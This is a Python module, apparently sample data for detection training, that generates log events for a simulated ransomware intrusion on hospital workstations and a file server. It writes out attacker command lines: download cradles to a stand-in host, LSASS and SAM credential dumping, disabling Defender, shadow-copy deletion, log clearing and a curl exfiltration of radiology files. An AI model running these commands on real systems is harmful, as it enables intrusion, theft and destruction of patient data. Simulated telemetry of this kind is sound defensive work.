"""The attack in the sample, step by step: a letter is opened at 09:41, files are encrypted at 15:30."""

from __future__ import annotations

from collections.abc import Iterator

from sample.seen import (
    ADDRESSES,
    ADM,
    DC,
    DEFENDER,
    FS,
    LOG_SERVICE,
    POWERSHELL,
    RAD,
    SCRIPTS,
    SECURITY,
    SYSMON,
    SYSTEM32,
    Seen,
    connection,
    logon,
    process,
    seen,
    service,
    setting,
    written,
)

OUTSIDE = "203.0.113.45"
ENCODED = (
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8A"
    "dwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA0ADUALwBhACcAKQA="
)
"""UTF-16 of: IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.45/a')."""
WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
CMD = SYSTEM32 + "cmd.exe"
PUBLIC = "C:\\Users\\Public\\"
DROPPED = "C:\\Windows\\kq7wz.exe"
WORM = "C:\\ProgramData\\s.exe"
AS_SYSTEM = {"User": "NT AUTHORITY\\SYSTEM"}


def attack() -> Iterator[Seen]:
    """Yield every event that the intruder caused, device by device."""
    yield from opened_letter()
    yield from settled_in()
    yield from stole_passwords()
    yield from moved_to_imaging()
    yield from blinded_imaging()
    yield from spread()
    yield from took_data()
    yield from encrypted()


def opened_letter() -> Iterator[Seen]:
    """Yield what happened on the medical secretary's workstation in the first minutes."""
    temp = "C:\\Users\\medsec07\\AppData\\Local\\Temp\\"
    script = f"wscript.exe {temp}referral.js"
    yield written("09:41:07", ADM, WORD, temp + "referral.js")
    yield process("09:41:09", ADM, SYSTEM32 + "wscript.exe", script, WORD)
    yield connection("09:41:12", ADM, SYSTEM32 + "wscript.exe", OUTSIDE, 443)
    line = f"powershell.exe -nop -w hidden -enc {ENCODED}"
    yield process("09:41:20", ADM, POWERSHELL, line, SYSTEM32 + "wscript.exe")
    text = f"IEX (New-Object Net.WebClient).DownloadString('http://{OUTSIDE}/a')"
    yield seen("09:41:22", ADM, SCRIPTS, 4104, MessageNumber="1", MessageTotal="1", ScriptBlockText=text, Path="")
    line = f"certutil -urlcache -split -f http://{OUTSIDE}/u.dat {PUBLIC}u.exe"
    yield process("09:42:03", ADM, SYSTEM32 + "certutil.exe", line, POWERSHELL)
    yield written("09:42:04", ADM, SYSTEM32 + "certutil.exe", PUBLIC + "u.exe")
    line = f"bitsadmin /transfer up http://{OUTSIDE}/scan.dat {PUBLIC}scan.dll"
    yield process("09:42:31", ADM, SYSTEM32 + "bitsadmin.exe", line, POWERSHELL)
    yield process("09:43:10", ADM, SYSTEM32 + "rundll32.exe", f"rundll32.exe {PUBLIC}scan.dll,Start", POWERSHELL)
    line = f"regsvr32 /s /n /u /i:http://{OUTSIDE}/f.sct scrobj.dll"
    yield process("09:43:40", ADM, SYSTEM32 + "regsvr32.exe", line, POWERSHELL)
    yield process("09:44:02", ADM, SYSTEM32 + "mshta.exe", f"mshta http://{OUTSIDE}/i.hta", POWERSHELL)
    tools = [
        ("whoami.exe", "whoami /all"),
        ("nltest.exe", "nltest /dclist:wph"),
        ("net1.exe", 'net1 group "Domain Admins" /domain'),
        ("systeminfo.exe", "systeminfo"),
        ("quser.exe", "quser /server:WPH-FS01"),
    ]
    for number, (tool, line) in enumerate(tools):
        yield process(f"09:50:{10 * number:02d}", ADM, SYSTEM32 + tool, line, CMD)


def settled_in() -> Iterator[Seen]:
    """Yield how the intruder made sure to come back, and looked into the patient records client."""
    key = "HKU\\S-1-5-21-1000-2000-3000-1107\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater"
    yield setting("09:52:11", ADM, POWERSHELL, key, "C:\\Users\\medsec07\\AppData\\Roaming\\upd.exe")
    line = f"schtasks /create /tn Updater /sc minute /mo 30 /tr {PUBLIC}u.exe"
    yield process("09:53:02", ADM, SYSTEM32 + "schtasks.exe", line, CMD)
    task = f"<Task><Actions><Exec><Command>{PUBLIC}u.exe</Command></Exec></Actions></Task>"
    told = {"TaskName": "\\Updater", "TaskContent": task, "SubjectUserName": "medsec07"}
    yield seen("09:53:02", ADM, SECURITY, 4698, **told)
    client = "C:\\Program Files\\Example EPR\\Client\\epr.exe"
    yield process(
        "10:02:45", ADM, client, "epr.exe /auto", SYSTEM32 + "cscript.exe", ParentCommandLine=f"cscript {PUBLIC}r.vbs"
    )


def stole_passwords() -> Iterator[Seen]:
    """Yield the theft of passwords: memory, tickets to service accounts, guesses."""
    lsass = {"TargetImage": SYSTEM32 + "lsass.exe", "GrantedAccess": "0x1410"}
    yield seen("10:20:00", ADM, SYSMON, 10, SourceImage=PUBLIC + "u.exe", **lsass)
    for number, account in enumerate(["svc-pacs", "svc-backup", "svc-epr"]):
        told = {"ServiceName": account, "TicketEncryptionType": "0x17", "Status": "0x0"}
        user = "medsec07@WPH.EXAMPLE.ORG"
        yield seen(f"10:50:0{number}", DC, SECURITY, 4769, TargetUserName=user, IpAddress=ADDRESSES[ADM], **told)
    for number in range(9):
        yield logon(f"11:05:{6 * number:02d}", DC, f"ward{number:02d}", ADDRESSES[ADM], failed=True)
    for number in range(12):
        yield logon(f"11:20:{4 * number:02d}", DC, "helpdesk01", ADDRESSES[ADM], failed=True)
    yield logon("11:20:52", DC, "helpdesk01", ADDRESSES[ADM])


def moved_to_imaging() -> Iterator[Seen]:
    """Yield the arrival on the imaging workstation, as a service sent over the network."""
    yield logon("13:10:01", RAD, "helpdesk01", ADDRESSES[ADM])
    yield service("13:10:04", RAD, "XMSVC", "%SystemRoot%\\kq7wz.exe", "demand start")
    yield process("13:10:05", RAD, DROPPED, DROPPED, SYSTEM32 + "services.exe", **AS_SYSTEM)
    yield process("13:10:09", RAD, CMD, "cmd /c whoami", DROPPED, **AS_SYSTEM)
    yield process("13:12:40", RAD, SYSTEM32 + "net1.exe", "net1 user support-rad Qx7-example /add", CMD, **AS_SYSTEM)
    account = {"TargetUserName": "support-rad", "TargetDomainName": RAD, "SubjectUserName": RAD + "$"}
    yield seen("13:12:40", RAD, SECURITY, 4720, **account)
    group = {"TargetUserName": "Administrators", "TargetSid": "S-1-5-32-544", "SubjectUserName": RAD + "$"}
    yield seen("13:12:52", RAD, SECURITY, 4732, MemberSid="S-1-5-21-1000-2000-3000-1105", **group)
    key = "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections"
    yield setting("13:15:20", RAD, SYSTEM32 + "reg.exe", key, "DWORD (0x00000000)")
    viewer = "C:\\Program Files\\Example PACS\\Viewer\\viewer.exe"
    yield process("13:21:33", RAD, CMD, "cmd /c start /min cmd", viewer, User="WPH\\radiology")


def blinded_imaging() -> Iterator[Seen]:
    """Yield how protection went and passwords were taken on the imaging workstation."""
    line = "powershell -c Set-MpPreference -DisableRealtimeMonitoring $true"
    yield process("13:30:02", RAD, POWERSHELL, line, CMD, **AS_SYSTEM)
    yield seen("13:30:05", RAD, DEFENDER, 5001, **{"Product Name": "Microsoft Defender Antivirus"})
    line = f"rundll32 {SYSTEM32}comsvcs.dll, MiniDump 684 {PUBLIC}l.dmp full"
    yield process("13:34:41", RAD, SYSTEM32 + "rundll32.exe", line, CMD, **AS_SYSTEM)
    lsass = {"TargetImage": SYSTEM32 + "lsass.exe", "GrantedAccess": "0x1fffff"}
    yield seen("13:34:41", RAD, SYSMON, 10, SourceImage=SYSTEM32 + "rundll32.exe", **lsass)
    line = f"reg save hklm\\sam {PUBLIC}s.hiv"
    yield process("13:36:10", RAD, SYSTEM32 + "reg.exe", line, CMD, **AS_SYSTEM)
    told = {"EventType": "WmiConsumerEvent", "Operation": "Created", "Name": "Updater", "Type": "Command Line"}
    yield seen("13:41:00", RAD, SYSMON, 20, Destination=PUBLIC + "u.exe", **told)


def spread() -> Iterator[Seen]:
    """Yield the worm's reach for its neighbours."""
    yield process("14:04:50", RAD, WORM, WORM, CMD, **AS_SYSTEM)
    for number in range(14):
        yield connection(f"14:05:{3 * number:02d}", RAD, WORM, f"192.0.2.{50 + number}", 445)
    yield connection("14:05:50", RAD, WORM, ADDRESSES[FS], 445)


def took_data() -> Iterator[Seen]:
    """Yield what was done on the file server before the noise began."""
    yield logon("14:40:00", FS, "helpdesk01", ADDRESSES[RAD])
    line = "powershell -nop -c hostname"
    yield process("14:40:02", FS, POWERSHELL, line, SYSTEM32 + "wbem\\WmiPrvSE.exe", **AS_SYSTEM)
    yield service("14:44:18", FS, "WinUpd", WORM, "auto start")
    line = "7z a -pExample1 C:\\ProgramData\\r.7z D:\\Radiology\\"
    yield process("14:50:33", FS, "C:\\ProgramData\\7z.exe", line, POWERSHELL, **AS_SYSTEM)
    line = "curl -T C:\\ProgramData\\r.7z https://files.example.org/in/"
    yield process("15:02:07", FS, SYSTEM32 + "curl.exe", line, POWERSHELL, **AS_SYSTEM)


def encrypted() -> Iterator[Seen]:
    """Yield the end: backups gone, files encrypted, logs emptied."""
    told = {"Signed": "true", "Signature": "Example Hardware Ltd", "SignatureStatus": "Valid"}
    yield seen("15:24:00", FS, SYSMON, 6, ImageLoaded=PUBLIC + "cpu.sys", **told)
    lines = [
        ("15:25:10", "net.exe", 'net stop "Example PACS Archive" /y'),
        ("15:26:00", "vssadmin.exe", "vssadmin delete shadows /all /quiet"),
        ("15:26:04", "wbem\\wmic.exe", "wmic shadowcopy delete"),
        ("15:26:20", "bcdedit.exe", "bcdedit /set {default} recoveryenabled No"),
        ("15:36:00", "wevtutil.exe", "wevtutil cl Security"),
        ("15:36:03", "wevtutil.exe", "wevtutil cl System"),
    ]
    for clock, tool, line in lines:
        yield process(clock, FS, SYSTEM32 + tool, line, WORM, **AS_SYSTEM)
    for number in range(24):
        yield written(f"15:30:{2 * number:02d}", FS, WORM, f"D:\\Radiology\\Room{number % 6}\\r{number:03d}.docx.wxl7")
    for number in range(6):
        note = f"D:\\Radiology\\Room{number}\\HOW_TO_RESTORE_FILES.txt"
        yield written(f"15:31:{3 * number:02d}", FS, WORM, note)
    who = {"SubjectUserName": "helpdesk01", "SubjectDomainName": "WPH"}
    yield seen("15:36:01", FS, ("Security", LOG_SERVICE), 1102, **who)
    yield seen("15:36:04", FS, ("System", LOG_SERVICE), 104, Channel="System", BackupPath="", **who)
